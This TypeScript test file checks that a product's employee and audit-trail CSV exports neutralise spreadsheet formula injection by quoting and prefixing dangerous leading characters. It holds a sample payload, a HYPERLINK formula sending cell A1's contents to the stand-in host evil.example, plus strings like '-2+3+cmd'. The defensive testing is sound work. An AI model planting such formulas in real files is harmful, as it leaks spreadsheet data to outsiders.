import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as contracts from '@tenaga/contracts';
import { CUSTOM_FIELD_TYPES as T } from '@tenaga/contracts';
import {
  createCompany,
  createCustomField,
  createEmployeeRow,
  createTestApp,
  createUser,
  employeeBody,
  loginAs,
  type TestApp,
  type TestCompany,
} from '../../testing/index.ts';

/**
 * Issue 11 item 6: a name that starts a formula must reach every CSV the product writes as text
 * (a single quote before it, quoted), never as a formula a spreadsheet runs.
 */
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(async () => {
  await t?.close();
});

async function csvOf(company: TestCompany, start: () => Promise<{ jobId: string } | contracts.ExportStarted>): Promise<string> {
  const started = await start();
  let fileId: string;
  if ('mode' in started && started.mode === 'file') fileId = started.file.fileId;
  else {
    await t.jobs.drain();
    const jobId = 'jobId' in started ? started.jobId : '';
    fileId = ((await company.admin.api.ok(contracts.getJob, { params: { id: jobId } })).result as contracts.FileResult).fileId;
  }
  const file = await t.app.inject({
    method: 'GET',
    url: `/api/v2/files/${fileId}`,
    headers: { authorization: `Bearer ${company.admin.token}` },
  });
  return file.rawPayload.toString('utf8');
}

/** Every field of every line, split as a spreadsheet program would (quotes aside). */
const fieldStarts = (csv: string) =>
  csv
    .replace(/^\uFEFF/, '')
    .split('\r\n')
    .flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/))
    .map((field) => field.replace(/^"/, ''));

describe('CSV exports write formulas as text', () => {
  it('the employee export', async () => {
    const company = await createCompany(t);
    await createEmployeeRow(t, company.companyId, { firstName: FORMULA, lastName: 'X', employmentNumber: '-2+3+cmd' });
    const csv = await csvOf(company, () => company.admin.api.ok(contracts.exportEmployees, { body: { format: 'csv' } }));
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"") X"`);
    expect(csv).toContain(`"'-2+3+cmd"`);
    expect(fieldStarts(csv).filter((field) => /^[=+\-@\t\r]/.test(field))).toEqual([]);
  });

  it('keeps a negative number in a number column a number', async () => {
    const company = await createCompany(t);
    const balance = await createCustomField(company, 'employee', { type: T.decimalNumber, label: 'Balance', propertyName: 'balance' });
    const body = { ...employeeBody({ job: { employmentNumber: 'N1' } }), others: [{ _id: { $oid: balance.id }, value: '-12.5' }] };
    await company.admin.api.ok(contracts.createEmployee, { body });
    const csv = await csvOf(company, () => company.admin.api.ok(contracts.exportEmployees, { body: { format: 'csv' } }));
    expect(csv.split('\r\n').find((line) => line.startsWith('N1,'))).toMatch(/,-12\.5$/);
  });

  it('the audit trail export', async () => {
    const company = await createCompany(t);
    const user = await createUser(t, company, { firstName: '@SUM(1+1)', lastName: '+cmd' });
    const session = await loginAs(t, user);
    await session.api.ok(contracts.updateMyRegionLanguage, { body: { language: 'en' } });
    const csv = await csvOf(company, () => company.admin.api.ok(contracts.exportAuditTrail, { body: { format: 'csv' } }));
    expect(csv).toContain(`"'@SUM(1+1) +cmd"`);
    expect(fieldStarts(csv).filter((field) => /^[=+\-@\t\r]/.test(field))).toEqual([]);
  });
});
